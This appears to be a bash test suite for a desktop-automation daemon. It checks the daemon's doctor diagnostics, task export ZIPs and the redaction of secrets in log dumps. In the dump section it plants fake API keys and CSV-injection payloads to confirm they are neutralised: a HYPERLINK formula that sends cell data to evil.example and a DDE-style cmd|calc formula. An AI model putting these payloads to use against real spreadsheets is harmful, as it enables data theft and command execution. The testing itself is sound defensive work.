#!/usr/bin/env bash
# tests/ops/run.sh - the operator suite: the doctor, the export bundle, the
# dump and its redaction, against a real detmd (real SQLite, real Xvfb,
# bin/vision-stub standing in for Ollama), with unzip, ffprobe and jq as
# independent oracles.
#
#   redaction   bin/test-ops: every pattern of daemon/core/redact.c
#   doctor      healthy daemon (ok/skip only, exit_code 0), dead backend
#               URL (fail with a hint), Xvfb missing from PATH (the CLI's
#               in-process form: fail, exit status 2), a full recording cap
#               (warn), the exit_code rule on every result, the CLI against
#               a running daemon (its exit status), /doctor, health_check,
#               a configured key never printed
#   export      a task with actions, a wait, a screenshot and a recording:
#               unzip -t, task.json = GET ?detail=full, the MP4 plays
#               (ffprobe), 404 for an unknown task; RSS stays flat while a
#               large task (80 MB of screenshots) is exported
#   dashboard   Export and Dump logs buttons download their ZIPs (chromium)
#   dump        planted secrets of every kind are gone from every file
#
# Prints "N passed, N failed".
set -u
cd "$(dirname "$0")/../.."
. tests/lib.sh

tmp=$(mktemp -d /tmp/detm-ops.XXXXXX)
pids=()
cleanup() {
	daemon_kill9
	for p in "${pids[@]}"; do kill -9 "$p" 2>/dev/null; done
	wait 2>/dev/null
	rm -rf "$tmp"
}
trap cleanup EXIT

total_pass=0
total_fail=0
run_part redaction "$DETM_BIN/test-ops"
PASS=$total_pass
FAIL=$total_fail

# A stand-in Ollama (lists models, answers /api/tags) and a wake receiver.
"$DETM_BIN/vision-stub" --port 0 --port-file "$tmp/stub.port" >"$tmp/stub.log" 2>&1 &
pids+=($!)
wait_for 10 test -s "$tmp/stub.port" || { bad "vision-stub starts"; finish; exit 1; }
STUB="http://127.0.0.1:$(cat "$tmp/stub.port")"
STUB_MODEL=$(curl -s "$STUB/api/tags" | jq -r '.models[0].name')

free_display() { # a display number nothing uses
	local n
	for n in $(seq $((200 + RANDOM % 300)) 999); do
		[ -e "/tmp/.X$n-lock" ] || [ -e "/tmp/.X11-unix/X$n" ] || { echo "$n"; return; }
	done
}

# exit_rule: the exit_code of the doctor result in $tmp/resp (or under
# .doctor) follows its results, and the summary counts them.
exit_rule() {
	jq -e '(.doctor // .) as $d | [$d.results[].status] as $s
		| ($s | map(select(. == "fail")) | length) as $f | ($s | map(select(. == "warn")) | length) as $w
		| $d.exit_code == (if $f > 0 then 2 elif $w > 0 then 1 else 0 end)
		and $d.summary.fail == $f and $d.summary.warn == $w
		and $d.summary.ok == ($s | map(select(. == "ok")) | length)
		and $d.summary.skip == ($s | map(select(. == "skip")) | length)
		and ($s | all(. == "ok" or . == "warn" or . == "fail" or . == "skip"))' "$tmp/resp" >/dev/null
}
result() { # result SECTION NAME: that result's object
	jq -c --arg s "$1" --arg n "$2" '[(.doctor // .).results[] | select(.section == $s and .name == $n)][0]' "$tmp/resp"
}
rtrue() { # rtrue SECTION NAME JQ: JQ is true of that result
	result "$1" "$2" | jq -e "$3" >/dev/null
}
jqt() { # jqt [jq options] EXPR FILE: EXPR is true of FILE
	jq -e "$@" >/dev/null
}

echo "   [${SECONDS}s] doctor: a healthy daemon"
# ---- doctor: a healthy daemon ----
D=$(free_display)
cat >"$tmp/openclaw.json" <<EOF
{"mcp":{"servers":{"detm":{"command":"$PWD/$DETM_BIN/detm-mcp","args":["--url","http://127.0.0.1:18790"]}}}}
EOF
export OPENCLAW_CONFIG_PATH="$tmp/openclaw.json"
DETM_DATA=$tmp/healthy
mkdir -m 700 "$DETM_DATA"
daemon_start --display ":$D" --shared-xvfb 640x480 --vision-backend ollama --ollama-url "$STUB" \
	--vision-model "$STUB_MODEL" --openclaw-cli "" --wake-url "$STUB/_stub/ping" || { bad "daemon start"; finish; exit 1; }
api GET /api/doctor
expect "healthy: GET /api/doctor answers with only ok and skip" 200 \
	'.exit_code == 0 and .summary.fail == 0 and .summary.warn == 0 and .summary.ok >= 10 and .mode == "daemon"'
[ "$CODE" = 200 ] || jq -c '.results[] | select(.status != "ok" and .status != "skip")' "$tmp/resp"
check "healthy: exit_code rule" exit_rule
check "healthy: every result has section, name, status, detail and hint" \
	jqt '.results | all(has("section") and has("name") and has("status") and has("detail") and has("hint"))' "$tmp/resp"
check "healthy: the shared display and XTEST, MIT-SHM, DAMAGE are ok" jqt \
	'[.results[] | select(.section == "x11" and (.name | IN("shared_display","XTEST","MIT-SHM","DAMAGE"))) | .status] == ["ok","ok","ok","ok"]' "$tmp/resp"
check "healthy: the vision backend lists its model" jqt \
	--arg m "$STUB_MODEL" '.results[] | select(.section == "vision") | .status == "ok" and (.detail | contains($m))' "$tmp/resp"
check "healthy: database integrity and schema ok" jqt \
	'[.results[] | select(.section == "database") | .status] == ["ok","ok"]' "$tmp/resp"
check "healthy: the OpenClaw MCP entry is found" jqt \
	'.results[] | select(.name == "openclaw_config") | .status == "ok"' "$tmp/resp"
check "healthy: the wake URL answers" jqt '.results[] | select(.section == "wake" and .name == "url") | .status == "ok"' "$tmp/resp"
api GET /doctor
expect "the Python route /doctor has the same shape" 200 '.summary.ok >= 10 and (.results | length) > 10'
api POST /api/tools/health_check '{}'
expect "health_check carries the doctor" 200 '.status == "ok" and .api_version == 1 and .doctor.exit_code == 0'
"$DETM_BIN/detmd" doctor --url "$DETM_URL" --json >"$tmp/cli.json" 2>"$tmp/cli.err"
rc=$?
check "CLI against the running daemon: exit status 0" [ "$rc" = 0 ]
check "CLI against the running daemon: its JSON says mode daemon, exit_code 0" \
	jqt '.mode == "daemon" and .exit_code == 0' "$tmp/cli.json"
ACU_URL="$DETM_URL" "$DETM_BIN/detmd" doctor >"$tmp/cli.txt" 2>&1
check "CLI with ACU_URL exits 0" [ $? = 0 ]
check "CLI prints a table: status, check, detail" grep -Eq '^ok +database/integrity +PRAGMA quick_check: ok' "$tmp/cli.txt"
daemon_stop
check "detmd stops cleanly (exit $DETM_RC)" [ "$DETM_RC" = 0 ]
unset DETM_DATA

echo "   [${SECONDS}s] doctor: a dead backend"
# ---- doctor: a dead backend, a full recording cap, a key never printed ----
DETM_DATA=$tmp/broken
mkdir -m 700 "$DETM_DATA" "$DETM_DATA/recordings"
head -c $((2 * 1024 * 1024)) /dev/zero >"$DETM_DATA/recordings/old.mp4"
SECRET=sk-or-v1-doctorsecret0123456789abcdef
OPENROUTER_API_KEY=$SECRET daemon_start --vision-backend ollama --ollama-url http://127.0.0.1:1 \
	--gui-agent-backend uitars --openrouter-url "$STUB/nope" --record-max-mb 1 --openclaw-cli "" \
	|| { bad "daemon start (broken)"; finish; exit 1; }
api GET /api/doctor
expect "dead backend: exit_code 2" 200 '.exit_code == 2'
check "dead backend: exit_code rule" exit_rule
check "dead backend: vision fails with a hint naming --ollama-url" rtrue vision backend \
	'.status == "fail" and (.hint | contains("--ollama-url")) and (.detail | contains("127.0.0.1:1"))'
check "full recording cap: storage/recordings warns" rtrue storage recordings \
	'.status == "warn" and (.detail | contains("1 MB cap"))'
check "the configured key appears nowhere in the doctor's answer" sh -c "! grep -q doctorsecret '$tmp/resp'"
check "the openrouter probe ran with it (grounding and gui_agent are checked)" jqt \
	'[.results[] | select(.section == "grounding" or .section == "gui_agent") | .status] | all(. == "fail")' "$tmp/resp"
"$DETM_BIN/detmd" doctor --url "$DETM_URL" --json >"$tmp/cli.json" 2>/dev/null
check "CLI exit status is the daemon's exit_code (2)" [ $? = 2 ]
daemon_stop
check "detmd stops cleanly (exit $DETM_RC)" [ "$DETM_RC" = 0 ]
# The CLI's in-process form: nothing answers, and PATH has no Xvfb.
env PATH=/nonexistent-bin "$DETM_BIN/detmd" doctor --url http://127.0.0.1:1 --data-dir "$DETM_DATA" \
	--vision-backend passthrough --json >"$tmp/resp" 2>"$tmp/cli.err"
rc=$?
check "in-process CLI: exit status 2" [ "$rc" = 2 ]
check "in-process CLI: mode in-process, the daemon result says so" jqt \
	'.mode == "in-process" and ([.results[] | select(.section == "daemon")][0].status == "skip")' "$tmp/resp"
check "in-process CLI: Xvfb missing from PATH fails with an install hint" rtrue x11 xvfb \
	'.status == "fail" and (.hint | contains("xvfb"))'
check "in-process CLI: the database is still checked" rtrue database integrity '.status == "ok"'
check "in-process CLI: exit_code rule" exit_rule

# ---- doctor: the wake sinks for real (in-process CLI) ----
# A fake `openclaw` (a Node script by its shebang) and a fake `node`
# printing a version; a "Gateway" (python's http.server serving a file
# named health) on the port the OpenClaw config names.
mkdir -p "$tmp/oc/bin" "$tmp/oc/gw"
printf '#!/usr/bin/env node\n' >"$tmp/oc/bin/openclaw"
printf '#!/bin/sh\necho "$(cat %s/oc/nodever)"\n' "$tmp" >"$tmp/oc/bin/node"
chmod +x "$tmp/oc/bin/openclaw" "$tmp/oc/bin/node"
echo ok >"$tmp/oc/gw/health"
GW=$(free_port)
(cd "$tmp/oc/gw" && exec python3 -m http.server "$GW" --bind 127.0.0.1 >/dev/null 2>&1) &
gwpid=$!
wait_for 10 curl -fs "http://127.0.0.1:$GW/health" -o /dev/null || bad "the fake Gateway starts"
ocdoc() { # ocdoc CONFIG_JSON [detmd options]: the in-process doctor with the fake openclaw first on PATH
	local c=$1; shift
	echo "$c" >"$tmp/oc/openclaw.json"
	OPENCLAW_CONFIG_PATH="$tmp/oc/openclaw.json" PATH="$tmp/oc/bin:$PATH" "$DETM_BIN/detmd" doctor \
		--url http://127.0.0.1:1 --data-dir "$DETM_DATA" --vision-backend passthrough \
		--openclaw-cli openclaw --json "$@" >"$tmp/resp" 2>>"$tmp/cli.err"
}
echo v20.20.2 >"$tmp/oc/nodever"
ocdoc "{\"gateway\":{\"port\":$GW}}"
check "doctor wake: an OpenClaw CLI under Node 20 fails, naming Node 24.16" rtrue wake openclaw \
	'.status == "fail" and (.detail | contains("v20.20.2")) and (.hint | contains("24"))'
echo v24.21.0 >"$tmp/oc/nodever"
ocdoc "{\"gateway\":{\"port\":$GW}}"
check "doctor wake: Node 24.21 and a Gateway that answers /health: ok" rtrue wake openclaw \
	'.status == "ok" and (.detail | contains("Gateway answers"))'
ocdoc "{\"gateway\":{\"port\":$(free_port)}}"
check "doctor wake: no Gateway answering: a warning saying events wait" rtrue wake openclaw \
	'.status == "warn" and (.detail | contains("no OpenClaw Gateway answers")) and (.hint | contains("gateway run"))'
hooks='"hooks":{"enabled":true,"token":"hook-secret-5678"}'
ocdoc "{\"gateway\":{\"port\":$GW},$hooks}" --wake-url "http://127.0.0.1:$GW/hooks/wake" --wake-url-token hook-secret-5678
check "doctor wake: a hook URL whose token matches hooks.token: ok" rtrue wake hook '.status == "ok"'
check "... and the token is printed nowhere" sh -c "! grep -q hook-secret-5678 '$tmp/resp'"
ocdoc "{\"gateway\":{\"port\":$GW},$hooks}" --wake-url "http://127.0.0.1:$GW/hooks/wake" --wake-url-token wrong
check "doctor wake: a token that differs from hooks.token fails (401 ahead)" rtrue wake hook \
	'.status == "fail" and (.detail | contains("differs"))'
ocdoc "{\"gateway\":{\"port\":$GW},$hooks}" --wake-url "http://127.0.0.1:$GW/hooks/wake"
check "doctor wake: no --wake-url-token for OpenClaw's hook fails" rtrue wake hook \
	'.status == "fail" and (.hint | contains("--wake-url-token"))'
ocdoc "{\"gateway\":{\"port\":$GW},\"hooks\":{\"enabled\":false}}" --wake-url "http://127.0.0.1:$GW/hooks/wake" --wake-url-token x
check "doctor wake: hooks off in OpenClaw's config fails" rtrue wake hook \
	'.status == "fail" and (.detail | contains("hooks are off"))'
kill "$gwpid" 2>/dev/null
unset DETM_DATA

echo "   [${SECONDS}s] export"
# ---- export ----
DETM_DATA=$tmp/export
mkdir -m 700 "$DETM_DATA"
daemon_start --vision-backend passthrough --openclaw-cli "" || { bad "daemon start (export)"; finish; exit 1; }
api POST /api/tasks '{"name":"export me","plan":["open","check"],"display":true,"display_resolution":"640x480"}'
T=$(jqr .task_id)
check "export: the task display is recording" wait_for 15 sh -c \
	"[ \"\$(curl -s $DETM_URL/api/tasks/$T | jq -r .recording.state)\" = recording ]"
xenv "$T" xterm -geometry 40x10+10+10 -e sh -c 'i=0; while :; do i=$((i+1)); echo "tick $i"; sleep 0.3; done' &
pids+=($!)
api PATCH "/api/tasks/$T/items/0" '{"status":"active"}'
api POST "/api/tasks/$T/actions" '{"action_type":"cli","summary":"opened it","input_data":{"cmd":"open"},"logs":[{"content":"exit 0"},{"log_type":"debug","content":"second line"}]}'
api POST /api/gui/do "{\"task_id\":\"$T\",\"instruction\":\"click(20, 20)\",\"after_screenshot\":true}"
expect "export: a gui action (click) with an after-screenshot" 200
api POST /api/waits "{\"task_id\":\"$T\",\"wake_when\":\"the sky turns green\",\"timeout\":60}"
W=$(jqr .wait_id)
api DELETE "/api/waits/$W" '{}'
api POST "/api/tasks/$T/messages" '{"content":"operator note"}'
api POST /api/record "{\"task_id\":\"$T\",\"duration\":1,\"fps\":2}"
C=$(jqr .clip_id)
expect "export: a video_record clip of the task" 200 '.status == "done"'
check "export: frames recorded" wait_for 15 sh -c "[ \$(curl -s $DETM_URL/api/tasks/$T | jq .recording.frames) -ge 3 ]"
api PATCH "/api/tasks/$T" '{"status":"completed"}'
check "export: the recording is finished" wait_for 15 sh -c \
	"[ \"\$(curl -s $DETM_URL/api/tasks/$T | jq -r .recording.state)\" = done ]"
curl -s "$DETM_URL/api/tasks/$T?detail=full" >"$tmp/full.json"
curl -s -D "$tmp/headers" -o "$tmp/bundle.zip" "$DETM_URL/api/tasks/$T/export"
check "export: Content-Type application/zip and a detm-task-<id>-<stamp>.zip name" sh -c \
	"grep -qi '^content-type: application/zip' '$tmp/headers' && grep -Eqi 'filename=\"detm-task-$T-[0-9]{8}T[0-9]{6}Z\\.zip\"' '$tmp/headers'"
check "export: unzip -t passes" unzip -tqq "$tmp/bundle.zip"
mkdir "$tmp/bundle"
unzip -q "$tmp/bundle.zip" -d "$tmp/bundle"
for f in README.txt task.json actions.json action_logs.json messages.json waits.json usage.json logs/detmd.log; do
	check "export: has $f" test -s "$tmp/bundle/$f"
done
check "export: task.json is GET ?detail=full" sh -c "[ \"\$(jq -S . '$tmp/bundle/task.json')\" = \"\$(jq -S . '$tmp/full.json')\" ]"
check "export: every action, with logs" jqt --slurpfile l "$tmp/bundle/action_logs.json" \
	'length >= 2 and any(.summary == "opened it" and .input_data.cmd == "open") and ($l[0] | map(.content) | index("second line") != null)' \
	"$tmp/bundle/actions.json"
check "export: the thread has the operator's note" jqt 'any(.content == "operator note" and .role == "user")' "$tmp/bundle/messages.json"
check "export: the wait is there, ended" jqt --arg w "$W" 'any(.id == $w and (.status == "cancelled" or .status == "resolved"))' "$tmp/bundle/waits.json"
check "export: usage.json is a JSON array" jqt 'type == "array"' "$tmp/bundle/usage.json"
check "export: the action's screenshot is there, a JPEG" sh -c \
	"[ \$(ls '$tmp'/bundle/screenshots/$T-*.jpg | wc -l) = 1 ] && head -c 2 '$tmp'/bundle/screenshots/$T-*.jpg | od -An -tx1 | grep -q 'ff d8'"
MP4=$tmp/bundle/recording/$T.mp4
check "export: the MP4 plays (ffprobe: h264, frames decoded)" sh -c \
	"ffprobe -v error -count_frames -show_entries stream=codec_name,nb_read_frames -of json '$MP4' | jq -e '.streams[0].codec_name == \"h264\" and (.streams[0].nb_read_frames | tonumber) >= 3' >/dev/null"
check "export: the MP4 is the daemon's file, byte for byte" cmp -s "$MP4" "$DETM_DATA/recordings/$T.mp4"
check "export: the clip and its status are in recording/" sh -c \
	"jq -e '.task_id == \"$T\"' '$tmp/bundle/recording/clip-$C.json' >/dev/null && ffprobe -v error '$tmp/bundle/recording/clip-$C.mp4'"
check "export: recording/index.json maps actions to moments" jqt '(.frames | length) >= 3 and (.actions | length) >= 1' "$tmp/bundle/recording/index.json"
check "export: the log window has the task's lines" grep -q "$T" "$tmp/bundle/logs/detmd.log"
code=$(curl -s -o "$tmp/ops.js" -w '%{http_code}' "$DETM_URL/dashboard/ops.js")
check "dashboard: ops.js is served and loaded by the page" sh -c \
	"[ $code = 200 ] && grep -q '/api/tasks/\${id}/export' '$tmp/ops.js' && curl -s '$DETM_URL/dashboard' | grep -q 'src=\"/dashboard/ops.js\"'"
api GET /api/tasks/deadbeef/export
expect "export: an unknown task is 404" 404 '.error.code == "not_found"'
api GET /api/tasks/NOTANID/export
expect "export: a malformed id is 404" 404 '.error.code == "not_found"'

echo "   [${SECONDS}s] Memory stays flat"
# Memory stays flat: a large task (80 MB of screenshots, 60 actions of 15 KB).
api POST /api/tasks '{"name":"large"}'
L=$(jqr .task_id)
for i in $(seq 1 60); do
	printf '{"action_type":"cli","summary":"step %d","output_data":"%s"}\n' "$i" "$(head -c 15000 /dev/zero | tr '\0' x)"
done | while read -r body; do
	curl -s -o /dev/null -X POST -H 'Content-Type: application/json' --data-binary "$body" "$DETM_URL/api/tasks/$L/actions"
done
for i in $(seq 1 16); do
	head -c $((5 * 1024 * 1024)) /dev/urandom >"$DETM_DATA/screenshots/$L-$(printf '%08x' "$i").jpg"
done
rss() { awk '/^VmRSS/ { print $2 }' "/proc/$DETM_PID/status"; }
hwm() { awk '/^VmHWM/ { print $2 }' "/proc/$DETM_PID/status"; }
curl -s -o /dev/null "$DETM_URL/api/tasks/$T/export"      # warm: libarchive loaded (a small task)
rss0=$(rss)
echo 5 >"/proc/$DETM_PID/clear_refs" 2>/dev/null    # resets VmHWM to the current RSS
before=$(hwm)
curl -s -o "$tmp/large.zip" "$DETM_URL/api/tasks/$L/export"
after=$(hwm)
size=$(stat -c %s "$tmp/large.zip")
echo "   large export: $((size / 1048576)) MB; VmRSS before $((rss0 / 1024)) MB, peak (reset) before $((before / 1024)) MB, peak during $((after / 1024)) MB"
check "export: the large bundle holds all 16 screenshots and 60 actions" sh -c \
	"[ \$(unzip -l '$tmp/large.zip' | grep -c 'screenshots/$L-') = 16 ] && [ \$(unzip -p '$tmp/large.zip' actions.json | jq length) = 60 ]"
check "export: peak RSS grew under 48 MB while a $((size / 1048576)) MB bundle streamed" \
	[ $((after - before)) -lt $((48 * 1024)) -a "$size" -gt $((64 * 1024 * 1024)) ]
rm -f "$tmp/large.zip"
echo "   [${SECONDS}s] The dashboard's buttons"
# The dashboard's buttons, in a real browser (tests/dashboard's playwright-core).
chrome=${CHROMIUM:-/usr/bin/chromium}
if [ -x "$chrome" ] && command -v node >/dev/null && npm_ci tests/dashboard playwright-core; then
	total_pass=0 total_fail=0
	run_part browser env DETM_URL="$DETM_URL" TASK="$T" OUT="$tmp" CHROMIUM="$chrome" node tests/ops/browser.mjs
	PASS=$((PASS + total_pass)) FAIL=$((FAIL + total_fail))
	check "dashboard: the downloaded bundle and dump pass unzip -t" sh -c \
		"unzip -tqq '$tmp/dash-export.zip' && unzip -tqq '$tmp/dash-dump.zip'"
else
	bad "dashboard buttons" "needs $chrome, node and tests/dashboard's npm packages (scripts/install-deps.sh test)"
fi
daemon_stop
check "detmd stops cleanly (exit $DETM_RC)" [ "$DETM_RC" = 0 ]
unset DETM_DATA

echo "   [${SECONDS}s] dump: planted"
# ---- dump: planted secrets of every kind ----
DETM_DATA=$tmp/dumpdata
mkdir -m 700 "$DETM_DATA"
DETM_TOKEN=detmTok-$RANDOM$RANDOM-plainword
export DETM_TOKEN
ANTHROPIC_API_KEY=literal-anthropic-KEY-0042 daemon_start --vision-backend passthrough --openclaw-cli "" \
	|| { bad "daemon start (dump)"; finish; exit 1; }
H=(-H "Authorization: Bearer $DETM_TOKEN" -H 'Content-Type: application/json')
post() { curl -s -o /dev/null -X POST "${H[@]}" --data-binary "$2" "$DETM_URL$1"; }
secrets=(
	sk-ant-api03-PLANTEDanthropic0001
	sk-or-v1-PLANTEDopenrouter00000002
	sk-proj-PLANTEDopenai000000000003
	AIzaSyPLANTEDgoogle0000000000000000004
	ghp_PLANTEDgithub000000000000000000005
	xoxb-PLANTED-slack-000000006
	AKIAPLANTEDAWS000007
	PLANTEDbearer0008
	PLANTEDkv0009
	PLANTEDjson0010
	"$DETM_TOKEN"
	literal-anthropic-KEY-0042
)
since=$(date +%s)
T=$(curl -s -X POST "${H[@]}" "$DETM_URL/api/tasks" \
	-d "{\"name\":\"leaky ${secrets[0]}\",\"metadata\":{\"api_key\":\"PLANTEDjson0010\"}}" | jq -r .task_id)
post "/api/tasks/$T/actions" "{\"action_type\":\"cli\",\"summary\":\"export OPENROUTER_API_KEY=${secrets[1]}\",\"status\":\"failed\",\"output_data\":\"curl -H 'Authorization: Bearer PLANTEDbearer0008' ?api_key=PLANTEDkv0009\",\"logs\":[{\"content\":\"openai ${secrets[2]} google ${secrets[3]}\"}]}"
post "/api/tasks/$T/messages" "{\"content\":\"gh ${secrets[4]} slack ${secrets[5]} aws ${secrets[6]} token ${DETM_TOKEN} key literal-anthropic-KEY-0042\"}"
# The log, too (as if a module had logged a reply that echoed a key).
printf '%s ERROR planted: upstream said: invalid key %s (Bearer %s)\n' "$(date -u +%Y-%m-%dT%H:%M:%S.000Z)" \
	"${secrets[0]}" PLANTEDbearer0008 >>"$DETM_DATA/logs/debug.log"
# Cells a spreadsheet would run as formulas (CSV injection).
post /api/tasks "{\"name\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\"}"
post "/api/tasks/$T/messages" '{"content":"@SUM(1+1)*cmd|calc!A0"}'
post "/api/tasks/$T/messages" '{"content":"-2+3"}'
curl -s "${H[@]}" -D "$tmp/dh" -o "$tmp/dump.zip" "$DETM_URL/api/dump?since=$((since - 5))"
check "dump: CSV cells that start like a formula begin with a quote" sh -c \
	"unzip -p '$tmp/dump.zip' tasks.csv | grep -qF \"'=HYPERLINK\" && unzip -p '$tmp/dump.zip' messages.csv | grep -qF \"'@SUM\" && unzip -p '$tmp/dump.zip' messages.csv | grep -qF \"'-2+3\""
check "dump: no CSV cell starts with = + - @" sh -c \
	"! unzip -p '$tmp/dump.zip' tasks.csv messages.csv | grep -Eq '(^|,)\"?(=HYPERLINK|@SUM|-2\\+3)'"
check "dump: unzip -t passes" unzip -tqq "$tmp/dump.zip"
check "dump: detm-dump-<stamp>.zip" grep -Eqi 'filename="detm-dump-[0-9]{8}T[0-9]{6}Z\.zip"' "$tmp/dh"
mkdir "$tmp/dump"
unzip -q "$tmp/dump.zip" -d "$tmp/dump"
for f in MANIFEST.md ERRORS.log tasks.csv actions.csv waits.csv usage.csv messages.csv logs/detmd.log; do
	check "dump: has $f" test -s "$tmp/dump/$f"
done
check "dump: the planted data is in it (the task, the failed action)" sh -c \
	"grep -q '$T' '$tmp/dump/tasks.csv' && grep -q 'failed' '$tmp/dump/ERRORS.log' && grep -q planted '$tmp/dump/ERRORS.log'"
for s in "${secrets[@]}"; do
	check "dump: no trace of ${s:0:12}..." sh -c "! grep -rqF -- '$s' '$tmp/dump'"
done
check "dump: prefixes kept where a reader needs them" sh -c \
	"grep -q 'sk-ant-\\[REDACTED\\]' '$tmp/dump/tasks.csv' && grep -q 'Bearer \\[REDACTED\\]' '$tmp/dump/actions.csv' && grep -q 'AKIA\\[REDACTED\\]' '$tmp/dump/messages.csv'"
check "dump: MANIFEST.md explains the files and the redaction" sh -c \
	"grep -q 'ERRORS.log' '$tmp/dump/MANIFEST.md' && grep -q 'REDACTED' '$tmp/dump/MANIFEST.md' && grep -q 'How to read' '$tmp/dump/MANIFEST.md'"
curl -s "${H[@]}" -o "$tmp/old.zip" "$DETM_URL/api/dump?since=1000&until=2000"
check "dump: a window before the task holds no tasks" sh -c \
	"[ \$(unzip -p '$tmp/old.zip' tasks.csv | wc -l) = 1 ]"
code=$(curl -s -o "$tmp/resp" -w '%{http_code}' "${H[@]}" "$DETM_URL/api/dump?since=yesterday")
check "dump: a bad since is 400 naming the field" sh -c "[ $code = 400 ] && jq -e '.error.field == \"since\"' '$tmp/resp' >/dev/null"
code=$(curl -s -o /dev/null -w '%{http_code}' "$DETM_URL/api/dump")
check "dump: without the token it is 401" [ "$code" = 401 ]
daemon_stop
check "detmd stops cleanly (exit $DETM_RC)" [ "$DETM_RC" = 0 ]
finish
